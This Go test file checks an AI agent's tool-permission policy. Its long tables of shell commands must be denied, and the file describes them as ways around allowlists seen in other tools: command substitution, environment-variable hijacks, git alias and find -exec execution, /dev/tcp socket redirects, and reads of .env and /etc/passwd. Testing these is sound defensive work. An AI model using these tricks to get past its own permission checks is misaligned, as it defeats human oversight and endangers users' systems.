package agent_test

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"flowrun.dev/flow/agent"
)

func policy(t *testing.T, allowed, disallowed []string) *agent.Policy {
	t.Helper()
	p, err := agent.NewPolicy(allowed, disallowed)
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func bash(command string) json.RawMessage {
	b, _ := json.Marshal(map[string]string{"command": command})
	return b
}

func file(name string) json.RawMessage {
	b, _ := json.Marshal(map[string]string{"file_path": name})
	return b
}

// TestBashPatterns is the table of what a pattern allows. Many rows are ways
// around allowlists that were seen in other tools.
func TestBashPatterns(t *testing.T) {
	t.Parallel()
	groups := []struct {
		name       string
		allowed    []string
		disallowed []string
		yes, no    []string
	}{
		{
			name: "prefix", allowed: []string{"Bash(go test:*)", "Bash(go vet:*)"},
			yes: []string{
				"go test", "go test ./...", "go test -run 'Test A' ./x", `"go" test`, `g\o test`, "go test ./$X 2>&1",
				"go test ./... && go vet ./...", "go test | go vet", "(go test)", "{ go test; }", "if go test; then go vet; fi",
				"for f in a b; do go vet ./$f; done", "! go test", "go test &", "go test > /dev/null 2>&1", "go test 2>/dev/null",
				"timeout 60 go test ./...", "timeout -k 5 1.5m go test", "nice -n 5 go test", "nohup go test", "time go test",
				"env go test", "/usr/bin/env go test", "command go test", "sh -c 'go test && go vet'", `bash -euc "go test"`,
				"timeout 5 nice sh -c 'timeout 3 go test'", "# a comment\ngo test", "go test <<'E'\n$(touch x)\nE",
				"command -v go", "go test ./${X:-y}", "f() { go test; }", "case $1 in a) go test;; esac", "while go test; do go vet; done",
			},
			no: []string{
				"go", "go build", "gotest", "./go test", "go tests", "touch x", "go  build", "",
				"go test; touch x", "go test && touch x", "go test || touch x", "go test | tee x", "go test\ntouch x", "go test & touch x",
				"go test $(touch x)", "go test `touch x`", `go test "$(touch x)"`, "go test <(touch x)", "go test >(touch x)", "go test <<E\n$(touch x)\nE",
				"go test <<< $(touch x)", "go test ${X:-$(touch x)}", "go test ${X:=y}", "go test ${X/$(touch x)/}", "go test ${X[$(touch x)]}", "go test ${!X}", "go test ${X@P}",
				"go test $((a[$(touch x)]))", "for x in 'a[$(touch w)]'; do go test $((x)); done", "((x=1))", "[[ -v 'a[$(touch x)]' ]]", "let x=1",
				"for ((i=0;i<3;i++)); do go test; done", "for PATH in /tmp; do go test; done", "for f in $(touch x); do go test; done", "select x in a; do touch x; done",
				"(touch x)", "{ touch x; }", "if touch x; then go test; fi", "if go test; then touch x; fi", "if go test; then go vet; elif touch x; then go vet; fi",
				"if go test; then go vet; else touch x; fi", "while touch x; do go test; done", "until go test; do touch x; done",
				"case $(touch x) in a) go test;; esac", "case a in $(touch x)) go test;; esac", "case a in a) touch x;; esac", "f() { touch x; }; f", "function go { touch x; }; go test", "coproc touch x", "time touch x", "! touch x",
				"PATH=/tmp go test", "LD_PRELOAD=./x.so go test", "GOFLAGS=-toolexec=./x go test", "export GOFLAGS=-toolexec=./x; go test", "X=1; go test", "X=$(touch x)", "declare -x A=b; go test", "readonly A", "A=(1 2) go test",
				"$GO test", "go $SUB", `"$@"`, "{go,touch} x", "g? test", "~/go test", "$'go' test", "go tes{t,}", `$(echo go) test`,
				"go test > out.txt", "go test >> out.txt", "go test >| x", "go test &> x", "go test >& x", "go test <> x", "> x", "go test 2> err", "go test > $X", "go test > /dev/tcp/1.2.3.4/80", "go test < /dev/tcp/1.2.3.4/80", "exec 3<>/dev/tcp/1.2.3.4/80", "go test {fd}>x", "go test > ~/x", "go test >&$X", "go test <&$X",
				"env PATH=/tmp go test", "env -i go test", "env -S 'touch x'", "env touch x", "env -u HOME go test", "env", "sudo go test", "su -c 'go test'", "doas go test",
				"sh -c 'touch x'", "sh -c \"$X\"", "bash -c 'go test; touch x'", "bash -lc 'go test'", "bash -ic 'go test'", "sh", "sh x.sh", "bash ./x.sh", "go test | sh", "echo 'touch x' | bash", "bash < x", "bash -c", "bash --rcfile x -c 'go test'", "zsh -c 'touch x'", "sh -c 'sh -c \"touch x\"'", "/bin/sh -c 'touch x'", "bash -c 'go test' \n touch x", "bash -O extglob -c 'go test'",
				"eval go test", "eval 'touch x'", "exec go test", "exec touch x", "source x", ". ./x", "trap 'touch x' EXIT", "alias go=touch", "builtin eval 'touch x'", "command touch x", "command -p touch x", "command eval 'touch x'", `\eval touch x`, `ev""al touch x`, "enable -f ./x.so x", "hash -p /tmp/x go; go test",
				"xargs touch", "echo x | xargs go build", "xargs -I go go test", "xargs -a f go test", "xargs sh -c", "timeout 5 touch x", "timeout $X go test", "timeout --foo 5 go test", "nohup touch x", "nice touch x", "nice -n 5 touch x", "stdbuf -oL touch x", "setsid touch x", "busybox touch x", "ssh host go test", "script -c 'touch x'", "watch go test", "unshare go test", "flock x go test", "parallel touch ::: x",
				"go test -exec ./x", "go test -exec=./x", "go test --exec ./x", "go test -toolexec ./x", "go vet -vettool=./x", "go test -C /tmp", "go test $X", `go test "$X"`, "go test *",
				"go test 'unclosed", "go test )", "go test \x00 x", "go test \x1b[2J", "go test \r touch x", "fi",
				"read 'a[$(touch x)]'", "printf -v 'a[$(touch x)]' y", "unset 'a[$(touch x)]'", "test -v 'a[$(touch x)]'",
			},
		},
		{
			name: "exact", allowed: []string{"Bash(go test ./...)", "Bash(make build)", "Bash(git -c color.ui=never log)"},
			yes: []string{"go test ./...", "make build", "make 'build'", "git -c color.ui=never log", "make build; make build"},
			no:  []string{"go test", "go test ./... -v", "make", "make build x", "make buildx", "make $X", "git -c alias.x='!touch w' x", "git -c color.ui=never log -p"},
		},
		{
			name: "git", allowed: []string{"Bash(git:*)"},
			yes: []string{"git status", "git log -p --oneline", "git diff HEAD~1", "git --no-pager log", "git commit -m 'a b'", "git commit -m \"x $MSG\" ./x"},
			no: []string{
				"git -c alias.x='!touch w' x", "git -calias.x='!touch w' x", "git --config-env=alias.x=X x", "git --exec-path=/tmp status", "git -C /tmp status", "git --git-dir=x status",
				"git rebase --exec 'touch x' HEAD~1", "git rebase -x 'touch x'", "git rebase --exe 'touch x'", "git bisect run touch x", "git submodule foreach 'touch x'", "git filter-branch --tree-filter 'touch x'",
				"git config alias.x '!touch w'", "git difftool -x 'touch x'", "git grep -Otouch x", "git grep --open-files-in-pager=touch x", "git fetch --upload-pack='touch x' .", "git ls-remote --upload-pa=x .", "git diff --output=x", "git $X", "git -p log", "git status && touch x", "git log > x", "git log | sh",
			},
		},
		{
			name: "git log", allowed: []string{"Bash(git log:*)"},
			yes: []string{"git log", "git log -p", "git log --stat -c"},
			no:  []string{"git", "git status", "git -c x=y log", "git log --output=x", "git log --outp=x"},
		},
		{
			name: "programs that run others", allowed: []string{"Bash(find:*)", "Bash(tar:*)", "Bash(sed:*)", "Bash(awk:*)", "Bash(make:*)", "Bash(sort:*)", "Bash(printf:*)", "Bash(test:*)", "Bash(less:*)", "Bash(rsync:*)", "Bash(grep:*)", "Bash(cat:*)"},
			yes: []string{"find . -name '*.go'", "find ./* -type f", "tar tf x.tar", "tar -czf x.tgz dir", "sed -n '1,5p' x", "sed 's/a/b/g' x", "awk '{print $1}' x", "make test", "sort -u x", "printf '%s\\n' a", "test -f x",
				"find . -type f | xargs grep x", "cat *.go", "cat $X"},
			no: []string{"find . -exec touch x ;", "find . -execdir touch x \\;", "find . -ok touch x ;", "find . -delete", "find . -fprintf x y", "find $X", "find *", `find . "$X"`, "find -- . -exec touch x \\;",
				"tar xf x --to-command=touch", "tar --to-com=touch -xf x", "tar cIf touch x y", "tar -cIf touch x", "tar --checkpoint-action=exec=touch -cf x y", "tar $X",
				"sed 's/a/b/e' x", "sed '1e touch x' x", "sed -i s/a/b/ x", "sed 'w x' y", "sed -f x y", "sed -n 's/a/b/w x' y",
				"awk 'BEGIN{system(\"touch x\")}'", "awk '{print > \"x\"}'", "awk -f x", "awk \"$X\"", "make SHELL=/tmp/x", "make --eval=x", "make CC=x", "sort --compress-program=x", "sort -o x y", "sort -uo x y", "printf -v 'a[$(touch x)]' y", "test -v 'a[$(touch x)]'", "less x", "rsync -e 'sh -c x' a b", "rsync -ae x a b", "find . | xargs find", "cat x | xargs -I{} sh -c {}"},
		},
		{
			name: "patterns that name a wrapper", allowed: []string{"Bash(timeout 60 go test:*)", "Bash(sh build.sh:*)", "Bash(env:*)", "Bash(bash:*)", "Bash(eval:*)", "Bash(sudo apt-get install curl)", "Bash(timeout 9 find:*)", "Bash(nice env:*)"},
			yes: []string{"timeout 60 go test ./...", "sh build.sh --fast", "sudo apt-get install curl", "timeout 9 find . -name x"},
			no:  []string{"timeout 60 go build", "go test", "timeout 60 touch x", "sh other.sh", "sh -c 'touch x'", "env touch x", "bash x.sh", "bash -c 'touch x'", "eval touch x", "sudo apt-get install vim", "sudo touch x", "timeout 9 find . -delete", "nice env A=b touch x", "nice env touch x", "timeout 60 go test -exec x"},
		},
		{
			name: "redirects need Write", allowed: []string{"Bash(go test:*)", "Bash(cd:*)", "Write(./out/**)"},
			yes: []string{"go test > out/a.txt", "go test >> ./out/b/c", "go test > /home/user/workspace/out/a", "go test 2>out/err"},
			no:  []string{"go test > a.txt", "go test > out/../a.txt", "go test > /etc/passwd", "go test > out/$X", "go test > out/*", "cd / && go test > out/a", "go test > ../out/a", "go test > ~/workspace/out/a", `go test > "out/$(touch x)"`},
		},
		{
			name: "disallow wins", allowed: []string{"Bash"}, disallowed: []string{"Bash(rm:*)", "Bash(git push:*)"},
			yes: []string{"touch x", "git status", "X=1 make", "for ((i=0;i<3;i++)); do echo $i; done", "[[ -f x ]] && echo y", "export A=b", "echo $((1+2))", "cat > x"},
			no: []string{"rm x", "/bin/rm x", `\rm x`, "touch x; rm x", "echo $(rm x)", "sh -c 'rm x'", "env rm x", "command rm x", "git push", "git push origin", "$X y", "git $X", "eval rm x", "bash x.sh", "X=rm; $X y", "[[ $(rm x) ]]", "A=$(rm x)", "export A=$(rm x)", "find . | xargs rm", "r''m x", "{ rm x; }", "timeout 5 rm x", "sudo rm x", "x() { rm y; }",
				"for ((i=$(rm x);i<3;i++)); do echo; done", "echo $(($(rm x)))", "echo ${X:-$(rm x)}"},
		},
		{
			name: "disallow beside a pattern", allowed: []string{"Bash(git:*)"}, disallowed: []string{"Bash(git push:*)"},
			yes: []string{"git status"}, no: []string{"git push", "git push -f", `git "push"`},
		},
		{
			name: "disallowed files bound redirects", allowed: []string{"Bash"}, disallowed: []string{"Read(.env)", "Edit(./src/**)"},
			yes: []string{"cat < x", "echo > y"}, no: []string{"cat < .env", "cat < sub/.env", "cat < ./x/../.env", "echo > src/a", "echo > .//src/a", "cat < $X"},
		},
		{name: "all", allowed: []string{"Bash"}, yes: []string{"anything; at $(all)", "not 'even parsed"}},
		{name: "all, written with a star", allowed: []string{"Bash(*)"}, yes: []string{"anything; at $(all)"}},
		{name: "none", allowed: []string{"Read"}, no: []string{"true"}},
		{name: "bare disallow", allowed: []string{"Bash"}, disallowed: []string{"Bash"}, no: []string{"true"}},
	}
	for _, g := range groups {
		t.Run(g.name, func(t *testing.T) {
			t.Parallel()
			p := policy(t, g.allowed, g.disallowed)
			for _, c := range g.yes {
				if d := p.Judge("Bash", bash(c)); !d.Allow {
					t.Errorf("denied: %q: %s", c, d.Reason)
				}
			}
			for _, c := range g.no {
				if c == "" {
					continue // nothing runs
				}
				switch d := p.Judge("Bash", bash(c)); {
				case d.Allow:
					t.Errorf("ALLOWED: %q", c)
				case d.Reason == "":
					t.Errorf("denied without a reason: %q", c)
				}
			}
		})
	}
}

func TestPathRules(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		tool, name          string
		allowed, disallowed []string
		want                bool
	}{
		{"Edit", "src/a/b.go", []string{"Edit(./src/**)"}, nil, true},
		{"Edit", "./src/./a.go", []string{"Edit(src/**)"}, nil, true},
		{"Edit", "/home/user/workspace/src/a.go", []string{"Edit(./src/**)"}, nil, true},
		{"Edit", "src/../main.go", []string{"Edit(./src/**)"}, nil, false},
		{"Edit", "src/../../.bashrc", []string{"Edit(./src/**)"}, nil, false},
		{"Edit", "/home/user/workspace/src/../../x", []string{"Edit(./src/**)"}, nil, false},
		{"Edit", "srcx/a.go", []string{"Edit(./src/**)"}, nil, false},
		{"Edit", "/src/a.go", []string{"Edit(./src/**)"}, nil, false},
		{"Edit", "sub/src/a.go", []string{"Edit(./src/**)"}, nil, false},
		{"Write", "a.txt", []string{"Edit(./**)", "Write(b.txt)"}, nil, false},
		{"Write", "b.txt", []string{"Write(b.txt)"}, nil, true},
		{"Write", "x/b.txt", []string{"Write(b.txt)"}, nil, false},
		{"Write", "src/\x00a", []string{"Write(./src/**)"}, nil, false},
		{"Write", "", []string{"Write(./src/**)"}, nil, false},
		{"Read", "/etc/passwd", []string{"Read"}, nil, true},
		{"Read", "/etc/passwd", []string{"Read(./**)"}, nil, false},
		{"Read", "/etc/passwd", []string{"Read(//etc/**)"}, nil, true},
		{"Read", "/etc/../root/x", []string{"Read(//etc/**)"}, nil, false},
		{"Read", "/home/user/notes/a", []string{"Read(~/notes/*)"}, nil, true},
		{"Read", "../notes/a", []string{"Read(~/notes/*)"}, nil, true},
		{"Read", ".env", []string{"Read"}, []string{"Read(./.env)"}, false},
		{"Read", "x/../.env", []string{"Read"}, []string{"Read(./.env)"}, false},
		{"Read", "./.ENV", []string{"Read"}, []string{"Read(./.env)"}, false},
		{"Read", "deep/.env", []string{"Read"}, []string{"Read(.env)"}, false},
		{"Read", "secrets/a/b", []string{"Read"}, []string{"Read(./secrets)"}, false},
		{"Read", "main.go", []string{"Read"}, []string{"Read(./.env)"}, true},
		{"Write", "src/a", []string{"Write"}, []string{"Edit(./src/**)"}, false},
		{"Edit", "src/a", []string{"Edit"}, []string{"Write(./src/**)"}, false},
		{"Edit", "a", []string{"Edit"}, []string{"Edit"}, false},
	} {
		p := policy(t, c.allowed, c.disallowed)
		if d := p.Judge(c.tool, file(c.name)); d.Allow != c.want {
			t.Errorf("%s(%q) with %v, not %v: allowed %v, want %v (%s)", c.tool, c.name, c.allowed, c.disallowed, d.Allow, c.want, d.Reason)
		}
	}
}

func TestSearchRules(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		tool, input string
		allowed     []string
		want        bool
	}{
		{"Glob", `{"pattern":"**/*.go"}`, []string{"Glob"}, true},
		{"Glob", `{"pattern":"src/**/*.go"}`, []string{"Glob(./src/**)"}, true},
		{"Glob", `{"pattern":"*.go","path":"src"}`, []string{"Glob(./src/**)"}, true},
		{"Glob", `{"pattern":"**/*.go"}`, []string{"Glob(./src/**)"}, false},
		{"Glob", `{"pattern":"../x/*.go","path":"src"}`, []string{"Glob(./src/**)"}, false},
		{"Glob", `{"pattern":"/etc/*"}`, []string{"Glob(./src/**)"}, false},
		{"Grep", `{"pattern":"x","path":"src/a"}`, []string{"Grep(./src/**)"}, true},
		{"Grep", `{"pattern":"x"}`, []string{"Grep(./src/**)"}, false},
		{"Grep", `{"pattern":"x","path":"src/*"}`, []string{"Grep(./src/a/**)"}, false},
	} {
		p := policy(t, c.allowed, nil)
		if d := p.Judge(c.tool, json.RawMessage(c.input)); d.Allow != c.want {
			t.Errorf("%s %s with %v: allowed %v, want %v (%s)", c.tool, c.input, c.allowed, d.Allow, c.want, d.Reason)
		}
	}
	p := policy(t, []string{"Grep"}, []string{"Read(.env)"})
	if p.Readable("Grep", "a/.env") || !p.Readable("Grep", "a/env") {
		t.Error("a search must leave out exactly what Read must not read")
	}
}

// TestTwoReaders: an input that the judge and the tool could read differently is denied.
func TestTwoReaders(t *testing.T) {
	t.Parallel()
	p := policy(t, []string{"Bash(go test:*)", "Write(./src/**)"}, nil)
	for tool, inputs := range map[string][]string{
		"Bash":  {`{"command":"touch x","command":"go test"}`, `{"Command":"touch x","command":"go test"}`, `[]`, `"go test"`, `{`, ``, `null`, `{"command":["touch"]}`, `{"command":{}}`},
		"Write": {`{"file_path":"/etc/x","file_path":"src/a"}`, `{"FILE_PATH":"/etc/x","file_path":"src/a"}`, `{}`, `{"file_path":1}`},
	} {
		for _, in := range inputs {
			if d := p.Judge(tool, json.RawMessage(in)); d.Allow {
				t.Errorf("ALLOWED: %s %s", tool, in)
			}
		}
	}
}

func TestOffered(t *testing.T) {
	t.Parallel()
	p := policy(t, []string{"Read", "Bash(go test:*)", "Bash(go vet:*)", "Write", "Edit"}, []string{"Write", "Edit(./x)"})
	if got, want := p.Offered(), []string{"Read", "Bash", "Edit"}; !slices.Equal(got, want) {
		t.Errorf("offered %v, want %v", got, want)
	}
	for _, tool := range []string{"Write", "Grep", "read", "", "mcp__x__y"} {
		if p.Judge(tool, json.RawMessage(`{}`)).Allow {
			t.Errorf("%q is allowed", tool)
		}
	}
	if got := policy(t, nil, nil).Offered(); len(got) != 0 {
		t.Errorf("without a rule %v is offered", got)
	}
}

func TestWithHome(t *testing.T) {
	t.Parallel()
	p := policy(t, []string{"Read(./**)"}, nil).WithHome("/tmp/run/home")
	for name, want := range map[string]bool{"/tmp/run/home/workspace/a": true, "/tmp/run/home/x": false, "/tmp/run/homex/workspace/a": false, "a": true} {
		if d := p.Judge("Read", file(name)); d.Allow != want {
			t.Errorf("%s: allowed %v, want %v (%s)", name, d.Allow, want, d.Reason)
		}
	}
}

func TestParseRules(t *testing.T) {
	t.Parallel()
	for entry, want := range map[string]string{
		"bash":              "did you mean Bash?",
		"Wrte":              "unknown tool",
		"Bash(":             "expected Tool",
		"Bash()":            "empty",
		"Bash(a; b)":        "one simple command",
		"Bash(git *)":       "one simple command",
		"Bash(X=1 go test)": "one simple command",
		"Bash(go > x)":      "one simple command",
		"Bash('x)":          "parse the pattern",
		"Bash(:*)":          "one simple command",
		"Edit(/src)":        "//src",
		"Edit(src/)":        "src/**",
		"Edit(../x)":        "leaves the workspace",
		"Edit([)":           "doublestar",
		"WebFetch(x)":       "domain:",
		"WebSearch(x)":      "no pattern",
		"mcp__a__b(x)":      "no pattern",
		"":                  "expected Tool",
	} {
		_, err := agent.ParseRules([]string{entry})
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%q: got %v, want an error with %q", entry, err, want)
		}
	}
	rules, err := agent.ParseRules([]string{"Read", " Bash(go test:*) ", "mcp__srv__tool", "mcp__srv__*", "WebFetch(domain:x.org)"})
	if err != nil || len(rules) != 5 || rules[1].String() != "Bash(go test:*)" {
		t.Errorf("got %v, %v", rules, err)
	}
	if _, err := agent.ParseRules([]string{"x", "y"}); err == nil || !strings.Contains(err.Error(), `"x"`) || !strings.Contains(err.Error(), `"y"`) {
		t.Errorf("not all mistakes are reported: %v", err)
	}
}
